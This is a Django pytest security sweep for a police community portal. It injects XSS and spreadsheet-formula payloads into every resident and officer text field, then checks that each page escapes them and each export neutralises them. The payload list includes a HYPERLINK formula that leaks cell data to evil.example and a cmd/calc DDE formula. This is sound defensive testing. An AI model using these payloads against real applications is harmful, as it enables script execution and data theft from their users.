"""The XSS sweep: hostile text in every field residents and officers fill, on every page that shows it.

For each payload in PAYLOADS a world is built the way users build it (the public
form, the staff action forms, the patrol service) with the payload, tagged with
the field's name (`<payload> ~title~`), in every field of FIELDS. Then every page
of PAGES is fetched as a role that may see it, and checked:

- no tagged text appears raw when it holds markup characters (so it was escaped);
- the markup itself is harmless: no element with an on* attribute, no inline or
  foreign script, no `javascript:` in an href/src/action, no image from anywhere
  but this site, no iframe/object/embed/base (the portal has none of these);
- the fields the page is meant to show are there (unescaped back, so the check
  above can fail), and the internal ones the page must never show are not;
- exports (CSV, XLSX): no text cell starts with = + - @ (a spreadsheet would run it),
  no XLSX cell is a formula, and the fields are there as literal text.

Extending it: a payload is one line in PAYLOADS; a new text field goes into FIELDS
and into `build_world`; a new page into PAGES (a page of ROUTES that is neither
swept nor in NOT_SWEPT fails `test_every_page_is_swept_or_exempt`; a text field
of the models that is neither in FIELDS nor in NOT_FILLED fails
`test_every_free_text_field_is_filled`).
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import time
from collections.abc import Callable
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.validators import validate_email
from django.db import models
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from aspirations.forms import IDENTIFIED, started_token
from aspirations.models import Aspiration, AspirationEvent, Attachment
from aspirations.services import aspiration_submit
from core.images import process_photo
from patrols.models import Patrol, PatrolPhoto
from patrols.services import patrol_log
from tests.conftest import client_for
from tests.factories import category, village
from tests.photos import photo_upload
from tests.portal.test_access_matrix import ROUTES, SKIPPED_NAMESPACES

pytestmark = pytest.mark.django_db


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


PAYLOADS = [
    Payload("script", "<script>alert(1)</script>"),
    Payload("img-onerror", '"><img src=x onerror=alert(1)>'),
    Payload("javascript-url", "javascript:alert(1)"),
    Payload("textarea-svg", "</textarea><svg onload=alert(1)>"),
    Payload("template", "{{ 7*7 }}{% debug %}"),
    Payload("broken-tag", "<b"),
    Payload("attribute-quote", "' onmouseover='x"),
    Payload("entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    # Spreadsheet formulas (OWASP CSV injection): harmless in HTML, dangerous in an export.
    Payload("formula-equals", '=HYPERLINK("https://evil.example/?x="&A1,"klik")'),
    Payload("formula-plus", "+1+cmd|' /C calc'!A0"),
    Payload("formula-minus", "-2+3"),
    Payload("formula-at", "@SUM(1,1)"),
]
MARKUP = set("<>\"'&")
FORMULA_STARTS = ("=", "+", "-", "@")


# --- the fields, and the world that fills them -----------------------------------------------------


@dataclass(frozen=True)
class Field:
    """A free-text field someone fills, and the model field it ends up in."""

    key: str
    model: type[models.Model]
    name: str


FIELDS = [
    # A resident, on the public form.
    Field("title", Aspiration, "title"),
    Field("description", Aspiration, "description"),
    Field("place", Aspiration, "place"),
    Field("reporter_name", Aspiration, "reporter_name"),
    Field("reporter_email", Aspiration, "reporter_email"),  # where the email validator lets the payload in
    # Staff, on the detail page's action forms (all kept as timeline event bodies).
    Field("assign_note", AspirationEvent, "body"),
    Field("reply", AspirationEvent, "body"),
    Field("note", AspirationEvent, "body"),
    Field("resolve", AspirationEvent, "body"),
    Field("reopen", AspirationEvent, "body"),
    Field("rejection_note", Aspiration, "rejection_note"),
    # Staff recording a resident's aspiration on a patrol.
    Field("recorded_title", Aspiration, "title"),
    Field("recorded_description", Aspiration, "description"),
    # An officer logging a patrol; the caption comes from the admin's photo inline.
    Field("patrol_place", Patrol, "place"),
    Field("partners", Patrol, "partners"),
    Field("summary", Patrol, "summary"),
    Field("findings", Patrol, "findings"),
    Field("actions", Patrol, "actions"),
    Field("caption", PatrolPhoto, "caption"),
]
# Text fields of these models nobody types free text into (or only in a shape a validator enforces).
NOT_FILLED = {
    (Aspiration, "code"): "generated",
    (Aspiration, "reporter_phone"): "phone_validator: digits, spaces, dashes and a leading + only",
    (Aspiration, "spam_signals"): "written by the form's spam checks",
    (Aspiration, "ip_hash"): "a keyed hash",
    (Aspiration, "public_id"): "generated",
    (Aspiration, "sent_via"): "the API client's name: master data the admin types, like officers' names",
    (Aspiration, "notify_language"): "a language code, set by the form from the active language",
    (Attachment, "content_type"): "its default: the image pipeline writes only JPEG",
}
TEXT_MODELS = (Aspiration, AspirationEvent, Attachment, Patrol, PatrolPhoto)
SAFE_PHONE = "081234567890"


def tagged(payload: Payload, key: str) -> str:
    return f"{payload.text} ~{key}~"


def email_for(payload: Payload) -> str | None:
    """The payload as an email address, when the validator accepts it as one."""
    candidate = re.sub(r"\s", "", payload.text) + "@example.org"
    try:
        validate_email(candidate)
    except ValidationError:
        return None
    return candidate


@dataclass
class World:
    payload: Payload
    people: dict
    texts: dict[str, str]  # field key -> the text stored (what a page may show)
    resident: Aspiration  # from the public form; verified, assigned, replied, noted, resolved, reopened
    rejected: Aspiration  # rejected with a note for the resident
    fresh: Aspiration  # waiting for verification
    recorded: Aspiration  # recorded by the officer on the patrol
    patrol: Patrol


def _ok(response, what: str) -> None:
    assert response.status_code in (200, 302), f"{what} -> {response.status_code}"


def build_world(payload: Payload, people: dict) -> World:
    """Fill every field of FIELDS with the payload, through the public form, the staff forms and the services."""
    texts = {spec.key: tagged(payload, spec.key) for spec in FIELDS}
    email = email_for(payload)
    if email is None:
        texts.pop("reporter_email")
        email = "warga@example.org"
    else:
        texts["reporter_email"] = email
    krangkeng = village("Krangkeng")

    # A resident sends an aspiration, with name and email, on the public form.
    cache.clear()
    response = Client().post(
        reverse("aspirations:submit"),
        {
            "type": "keluhan",
            "category": str(category().pk),
            "title": texts["title"],
            "description": texts["description"],
            "village": str(krangkeng.pk),
            "place": texts["place"],
            "occurred_at": "",
            "identity": IDENTIFIED,
            "reporter_name": texts["reporter_name"],
            "reporter_phone": SAFE_PHONE,
            "reporter_email": email,
            "consent": "on",
            "website": "",
            "started": started_token(time.time() - 60),
        },
    )
    assert response.status_code == 302, "the public form refused the submission"
    resident = Aspiration.objects.get(title=texts["title"])

    # Staff take it through the whole workflow, writing on every form on the way.
    operator, bhabin, commander = people["operator"], people["bhabin"], people["commander"]
    steps = [
        (operator, "verify", {"verify-priority": "normal"}),
        (operator, "assign", {"assign-officer": bhabin.pk, "assign-note": texts["assign_note"]}),
        (bhabin, "reply", {"reply-body": texts["reply"]}),
        (bhabin, "note", {"note-body": texts["note"]}),
        (bhabin, "resolve", {"resolve-body": texts["resolve"]}),
        (commander, "reopen", {"reopen-reason": texts["reopen"]}),
    ]
    for user, action, data in steps:
        response = client_for(user).post(reverse(f"aspirations:{action}", kwargs={"pk": resident.pk}), data)
        assert response.status_code == 302, f"{action} was refused"

    def anonymous(title: str) -> Aspiration:
        return aspiration_submit(
            type="aspirasi", category=category(), title=title, description="Keterangan warga.", village=krangkeng
        )

    rejected = anonymous("Ditolak")
    response = client_for(operator).post(
        reverse("aspirations:reject", kwargs={"pk": rejected.pk}),
        {"reject-reason": "lainnya", "reject-note": texts["rejection_note"]},
    )
    assert response.status_code == 302, "the rejection was refused"
    fresh = anonymous("Baru masuk")

    # An officer logs a patrol with the payload in every text, then records an aspiration on it.
    now = timezone.now()
    patrol = patrol_log(
        author=bhabin,
        patrol_type="sambang",
        mode="r2",
        started_at=now - datetime.timedelta(hours=2),
        ended_at=now - datetime.timedelta(hours=1),
        village=krangkeng,
        place=texts["patrol_place"],
        leader=bhabin,
        partners=texts["partners"],
        situation="kejadian",
        summary=texts["summary"],
        findings=texts["findings"],
        actions=texts["actions"],
        photos=[process_photo(photo_upload())],
    )
    PatrolPhoto.objects.filter(patrol=patrol).update(caption=texts["caption"])
    response = client_for(bhabin).post(
        reverse("aspirations:record_on_patrol", kwargs={"patrol_pk": patrol.pk}),
        {
            "channel": "",
            "type": "keluhan",
            "category": str(category().pk),
            "title": texts["recorded_title"],
            "description": texts["recorded_description"],
            "village": str(krangkeng.pk),
            "priority": "normal",
        },
    )
    assert response.status_code == 302, "recording on the patrol was refused"
    recorded = Aspiration.objects.get(title=texts["recorded_title"])
    cache.clear()
    return World(payload, people, texts, resident, rejected, fresh, recorded, patrol)


# --- the pages ----------------------------------------------------------------------------------


PUBLIC = ("title", "description", "place", "reporter_name", "reporter_email")
INTERNAL = ("assign_note", "note", "reopen")


@dataclass(frozen=True)
class Page:
    url_name: str
    persona: str
    url: Callable[[World], str]
    shows: tuple[str, ...] = ()  # field keys the page must show
    never: tuple[str, ...] = ()  # field keys the page must never show (privacy)
    post: Callable[[World], dict] | None = None  # POST this data instead of a GET
    kind: str = "html"  # html, csv or xlsx
    follow: bool = False  # the POST redirects (PRG): sweep the page it leads to


def detail(world: World, which: str = "resident") -> str:
    return reverse("aspirations:detail", kwargs={"pk": getattr(world, which).pk})


def look_up(which: str) -> Callable[[World], dict]:
    """Cek Status's look-up: the code POSTed, the page it redirects to is swept."""
    return lambda world: {"kode": getattr(world, which).code}


def with_query(name: str, key: str = "q", **kwargs) -> Callable[[World], str]:
    """The page with the payload typed into its search box (reflected input)."""
    return lambda world: f"{reverse(name, kwargs=kwargs or None)}?{key}={quote(world.texts['query'], safe='')}"


def recap_month(world: World) -> str:
    month = timezone.localtime(world.patrol.started_at).strftime("%Y-%m")
    return f"{reverse('dashboard:recap')}?bulan={month}"


def patrol_url(name: str) -> Callable[[World], str]:
    return lambda world: reverse(name, kwargs={"pk": world.patrol.pk})


def public_form_with_errors(world: World) -> dict:
    """The public form sent back with an error (no category): every value is written back into it."""
    return {
        "type": "keluhan",
        "category": "",
        "title": world.texts["title"],
        "description": world.texts["description"],
        "village": str(village("Krangkeng").pk),
        "place": world.texts["place"],
        "identity": IDENTIFIED,
        "reporter_name": world.texts["reporter_name"],
        "reporter_phone": SAFE_PHONE,
        "reporter_email": world.texts.get("reporter_email", ""),
        "consent": "on",
        "started": started_token(time.time() - 60),
    }


def patrol_form_with_errors(world: World) -> dict:
    """A patrol form with an error (no village): the texts come back in their inputs and textareas."""
    return {
        "patrol_type": "sambang",
        "mode": "r2",
        "village": "",
        "place": world.texts["patrol_place"],
        "partners": world.texts["partners"],
        "summary": world.texts["summary"],
        "findings": world.texts["findings"],
        "actions": world.texts["actions"],
        "situation": "kejadian",
    }


def staff_form_with_errors(world: World) -> dict:
    return {"channel": "phone", "type": "keluhan", "title": world.texts["title"], "place": world.texts["place"]}


PATROL_TEXTS = ("patrol_place", "partners", "summary", "findings", "actions")

PAGES: dict[str, Page] = {
    # Public.
    "status-reopened": Page(
        "aspirations:status",
        "anonymous",
        lambda world: reverse("aspirations:status"),
        # The resident's own title is shown to whoever holds the code; nothing else they wrote.
        shows=("title", "reply", "resolve"),
        never=(*(key for key in PUBLIC if key != "title"), *INTERNAL),
        post=look_up("resident"),
        follow=True,
    ),
    "status-rejected": Page(
        "aspirations:status",
        "anonymous",
        lambda world: reverse("aspirations:status"),
        shows=("rejection_note",),
        post=look_up("rejected"),
        follow=True,
    ),
    "status-reflected": Page(
        "aspirations:status",
        "anonymous",
        lambda world: reverse("aspirations:status"),
        post=lambda world: {"kode": world.texts["query"]},
        follow=True,
    ),
    "submit-with-errors": Page(
        "aspirations:submit",
        "anonymous",
        lambda world: reverse("aspirations:submit"),
        shows=PUBLIC,
        post=public_form_with_errors,
    ),
    # Beranda Petugas: the officer's last patrols.
    "staff-home": Page("staff_home", "officer", lambda world: reverse("staff_home"), shows=("patrol_place",)),
    # Aspirations, staff side.
    "inbox": Page("aspirations:inbox", "operator", lambda world: reverse("aspirations:inbox"), shows=("title",)),
    "inbox-search": Page("aspirations:inbox", "operator", with_query("aspirations:inbox"), shows=("query",)),
    "mine": Page("aspirations:mine", "officer", lambda world: reverse("aspirations:mine"), shows=("title",)),
    "detail-operator": Page(
        "aspirations:detail",
        "operator",
        detail,
        shows=("title", "description", "place", "assign_note", "reply", "note", "resolve", "reopen"),
        never=("reporter_name", "reporter_email"),
    ),
    "detail-officer": Page(
        "aspirations:detail",
        "officer",
        detail,
        shows=("title", "description", "place", "reply", "note", "resolve", "reopen"),
        never=("reporter_name", "reporter_email"),
    ),
    "detail-rejected": Page(
        "aspirations:detail", "command", lambda world: detail(world, "rejected"), shows=("rejection_note",)
    ),
    "detail-recorded": Page(
        "aspirations:detail",
        "operator",
        lambda world: detail(world, "recorded"),
        shows=("recorded_title", "recorded_description"),
    ),
    "reveal-identity": Page(
        "aspirations:reveal_identity",
        "command",
        lambda world: reverse("aspirations:reveal_identity", kwargs={"pk": world.resident.pk}),
        shows=("reporter_name", "reporter_email", "title"),
        post=lambda world: {},
    ),
    "reject-with-errors": Page(
        "aspirations:reject",
        "operator",
        lambda world: reverse("aspirations:reject", kwargs={"pk": world.fresh.pk}),
        shows=("note",),
        post=lambda world: {"reject-reason": "duplikat", "reject-note": world.texts["note"]},
    ),
    "slip": Page(
        "aspirations:slip",
        "operator",
        lambda world: reverse("aspirations:slip", kwargs={"pk": world.resident.pk}),
        never=("reporter_name", "description"),
    ),
    "record-on-patrol": Page(
        "aspirations:record_on_patrol",
        "officer",
        lambda world: reverse("aspirations:record_on_patrol", kwargs={"patrol_pk": world.patrol.pk}),
        shows=("recorded_title",),
    ),
    "record-with-errors": Page(
        "aspirations:record",
        "operator",
        lambda world: reverse("aspirations:record"),
        shows=("title", "place"),
        post=staff_form_with_errors,
    ),
    # Exports of the inbox: without identity (GET), with it (POST, audited).
    "inbox-csv": Page(
        "aspirations:inbox_export",
        "operator",
        lambda world: f"{reverse('aspirations:inbox_export')}?format=csv",
        shows=("title", "description", "place", "recorded_title"),
        never=("reporter_name",),
        kind="csv",
    ),
    "inbox-xlsx": Page(
        "aspirations:inbox_export",
        "command",
        lambda world: f"{reverse('aspirations:inbox_export')}?format=xlsx",
        shows=("title", "description", "place"),
        never=("reporter_name",),
        kind="xlsx",
    ),
    "inbox-csv-identity": Page(
        "aspirations:inbox_export",
        "operator",
        lambda world: reverse("aspirations:inbox_export"),
        shows=("title", "reporter_name", "reporter_email"),
        post=lambda world: {"format": "csv"},
        kind="csv",
    ),
    "inbox-xlsx-identity": Page(
        "aspirations:inbox_export",
        "command",
        lambda world: reverse("aspirations:inbox_export"),
        shows=("title", "reporter_name", "reporter_email"),
        post=lambda world: {"format": "xlsx"},
        kind="xlsx",
    ),
    # Patrols.
    "patrol-list": Page(
        "patrols:patrol_list", "command", lambda world: reverse("patrols:patrol_list"), shows=("patrol_place",)
    ),
    "patrol-list-search": Page("patrols:patrol_list", "command", with_query("patrols:patrol_list"), shows=("query",)),
    "my-patrols": Page(
        "patrols:my_patrols", "officer", lambda world: reverse("patrols:my_patrols"), shows=("patrol_place",)
    ),
    "patrol-detail": Page(
        "patrols:patrol_detail", "officer", patrol_url("patrols:patrol_detail"), shows=(*PATROL_TEXTS, "caption")
    ),
    "patrol-edit": Page(
        "patrols:patrol_edit", "officer", patrol_url("patrols:patrol_edit"), shows=(*PATROL_TEXTS, "caption")
    ),
    "patrol-create-with-errors": Page(
        "patrols:patrol_create",
        "officer",
        lambda world: reverse("patrols:patrol_create"),
        shows=PATROL_TEXTS,
        post=patrol_form_with_errors,
    ),
    "patrol-csv": Page(
        "patrols:patrol_export",
        "command",
        lambda world: f"{reverse('patrols:patrol_export')}?format=csv",
        shows=PATROL_TEXTS,
        kind="csv",
    ),
    "patrol-xlsx": Page(
        "patrols:patrol_export",
        "command",
        lambda world: f"{reverse('patrols:patrol_export')}?format=xlsx",
        shows=PATROL_TEXTS,
        kind="xlsx",
    ),
    # Command pages.
    "dashboard": Page("dashboard:dashboard", "command", lambda world: reverse("dashboard:dashboard")),
    "recap": Page("dashboard:recap", "command", recap_month, shows=("patrol_place", "findings", "actions")),
    "audit": Page("audit:entry_list", "command", lambda world: reverse("audit:entry_list")),
}

# Pages of ROUTES the sweep leaves out, and why.
NOT_SWEPT = {
    "home": "no user text",
    "directory": "officers' names and numbers: master data the admin keeps",
    "polsek": "master data (the unit, its villages, officers' names): escaped, tests/portal/test_polsek_page.py",
    "polres": "master data (the unit, its Polsek and kecamatan): escaped, tests/portal/test_polres_page.py",
    "aspirations:villages": "JSON of village names (json.dumps), not HTML",
    "healthz": "no user text",
    "login": "no user text; the username typed is echoed by Django's own form (escaped)",
    "logout": "POST only, redirects",
    "password_change": "no user text",
    "password_change_done": "no user text",
    "set_language": "redirects",
    "aspirations:submitted": "the ticket code only",
    "aspirations:status_link": "a button, or the empty look-up form: no user text",
    "aspirations:photo": "an image",
    "aspirations:photo_thumbnail": "an image",
    "patrols:photo": "an image",
    "patrols:photo_thumbnail": "an image",
    "pending_upload_create": "POST only: JSON with an id and a URL",
    "pending_upload_thumbnail": "an image",
    "service_worker": "a script, no user text",
    "manifest": "JSON, no user text",
    "patrols:outbox": "no user text: the list is drawn on the phone from its own storage",
    "patrols:patrol_export_start": "POST only: starts a background export, redirects",
    "aspirations:inbox_export_start": "POST only: starts a background export, redirects",
    "exports:job": "a background export's state, row counts and file name (a date stamp): no user text",
    "exports:download": "a file; its cells are neutralised by core.exports",
    "patrols:notification_settings": "the officer's own phone number (digits, validated) and a checkbox",
    "aspirations:webhook_whatsapp": "the providers' receipts: plain text answers, no page",
    "aspirations:webhook_sms": "the providers' receipts: plain text answers, no page",
    **{
        f"aspirations:{action}": "POST only: redirects, or re-renders the detail page swept above"
        for action in ("verify", "assign", "reply", "note", "resolve", "reopen")
    },
    "open311:developer": "master data only (the categories)",
    "open311:root": "redirects",
    # The API answers XML (ElementTree escapes every value) or JSON (json.dumps), never
    # HTML, with nosniff; residents' text only where the unit publishes it
    # (tests/open311/test_documents.py, test_get_requests.py).
    **{
        f"open311:{name}": "XML or JSON, not HTML"
        for name in ("discovery", "services", "service_definition", "requests", "request", "token")
    },
}


# --- the checks ---------------------------------------------------------------------------------


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset"}


class MarkupCheck(HTMLParser):
    """Collects anything in the markup that could run script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "img" and not values.get("src", "").startswith(("/", "data:image/")):
            self.problems.append(f"<img src={values.get('src')!r}>")
        if tag == "script":
            if "src" in values:
                if not values["src"].startswith("/"):
                    self.problems.append(f"<script src={values['src']!r}>")
            elif values.get("type") != "application/json":
                self._script = ""
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            self.problems.append(f"inline <script>{self._script[:40]}")
            self._script = None


def html_problems(page: Page, world: World, html: str) -> list[str]:
    problems = []
    for key, text in world.texts.items():
        if MARKUP & set(world.payload.text) and text in html:
            problems.append(f"{key} unescaped")
    checker = MarkupCheck()
    checker.feed(html)
    checker.close()
    problems += checker.problems
    readable = unescape(html)
    problems += [f"{key} not shown" for key in page.shows if world.texts.get(key, "\0") not in readable]
    problems += [
        f"{key} shown but must not be" for key in page.never if key in world.texts and world.texts[key] in readable
    ]
    # The email is a payload only where the validator let it in (see email_for).
    return [problem for problem in problems if not problem.startswith("reporter_email not shown")]


def csv_cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(response) -> tuple[list[str], list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(content))
    cells, formulas = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{cell.coordinate}: {cell.value}")
                elif isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells, formulas


def looks_like_formula(cell: str) -> bool:
    """A text cell a spreadsheet would evaluate (a plain number, e.g. a negative latitude, is no formula)."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def export_problems(page: Page, world: World, response) -> list[str]:
    assert response["Content-Disposition"].startswith("attachment;"), "an export must download, never render"
    if page.kind == "csv":
        assert response["Content-Type"].startswith("text/csv")
        cells, formulas = csv_cells(response), []
    else:
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        cells, formulas = xlsx_cells(response)
    problems = [f"formula cell {formula}" for formula in formulas]
    problems += [f"cell starts like a formula: {cell[:40]!r}" for cell in cells if looks_like_formula(cell)]
    as_written = set(cells)
    for key in page.shows:
        text = world.texts.get(key)
        if text is not None and text not in as_written and f"'{text}" not in as_written:
            problems.append(f"{key} not exported as literal text")
    for key in page.never:
        if key in world.texts and any(world.texts[key] in cell for cell in cells):
            problems.append(f"{key} exported but must not be")
    return problems


# --- the tests ----------------------------------------------------------------------------------


@pytest.fixture
def people(bhabin, operator, commander, site_admin) -> dict:
    return {
        "bhabin": bhabin,
        "operator": operator,
        "commander": commander,
        "personas": {
            "anonymous": None,
            "officer": bhabin,
            "operator": operator,
            "command": commander,
            "admin": site_admin,
        },
    }


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload.name)
def test_no_page_shows_a_payload_unescaped(payload, people):
    world = build_world(payload, people)
    world.texts["query"] = tagged(payload, "query")
    failures = []
    for name, page in PAGES.items():
        cache.clear()  # the status look-up and the public form are rate-limited
        client = client_for(people["personas"][page.persona])
        url = page.url(world)
        response = client.post(url, page.post(world), follow=page.follow) if page.post else client.get(url)
        if response.status_code != 200:
            failures.append(f"{name}: {url} -> {response.status_code}")
            continue
        if page.kind == "html":
            problems = html_problems(page, world, response.content.decode())
        else:
            problems = export_problems(page, world, response)
        failures += [f"{name}: {problem}" for problem in problems]
    assert not failures, f"payload {payload.text!r}:\n" + "\n".join(failures)


def test_every_page_is_swept_or_exempt():
    swept = {page.url_name for page in PAGES.values()}
    pages = {name for name in ROUTES if name.split(":")[0] not in SKIPPED_NAMESPACES}
    missing = sorted(pages - swept - NOT_SWEPT.keys())
    assert not missing, f"pages neither in PAGES nor in NOT_SWEPT: {missing}"
    assert not swept & NOT_SWEPT.keys(), "a page is both swept and exempt"
    assert not (swept | NOT_SWEPT.keys()) - pages, "PAGES or NOT_SWEPT names a URL that does not exist"


def test_every_free_text_field_is_filled():
    filled = {(spec.model, spec.name) for spec in FIELDS}
    free_text = {
        (model, model_field.name)
        for model in TEXT_MODELS
        for model_field in model._meta.get_fields()
        if isinstance(model_field, models.CharField | models.TextField) and not model_field.choices
    }
    missing = sorted(f"{model.__name__}.{name}" for model, name in free_text - filled - NOT_FILLED.keys())
    assert not missing, f"text fields neither in FIELDS nor in NOT_FILLED: {missing}"
    assert not filled & NOT_FILLED.keys()


class TestTheChecksCanFail:
    """The sweep passes because the pages are safe, not because the checks are blind."""

    @pytest.mark.parametrize(
        "html",
        [
            '<a href=" JavaScript:alert(1)">x</a>',
            '<form action="javascript:alert(1)"></form>',
            "<div onmouseover='x'>x</div>",
            "<svg onload=alert(1)>",
            "<img src=x>",
            "<script>alert(1)</script>",
            '<script src="https://evil.example/x.js"></script>',
            "<iframe></iframe>",
        ],
    )
    def test_markup_that_could_run_script_is_reported(self, html):
        checker = MarkupCheck()
        checker.feed(html)
        checker.close()
        assert checker.problems

    def test_the_portals_own_markup_passes(self):
        checker = MarkupCheck()
        checker.feed(
            '<script src="/static/x.js"></script><script id="d" type="application/json">{"a": 1}</script>'
            '<img src="/patroli/foto/1/kecil/" alt="x"><a href="/aspirasi/staf/1/">x</a>'
        )
        checker.close()
        assert checker.problems == []

    def test_formula_cells_are_reported_and_numbers_are_not(self):
        cells = ["=1+1", "'=1+1", "-6.487600", "@SUM(1)", "+62 812", "teks"]
        assert [cell for cell in cells if looks_like_formula(cell)] == ["=1+1", "@SUM(1)", "+62 812"]
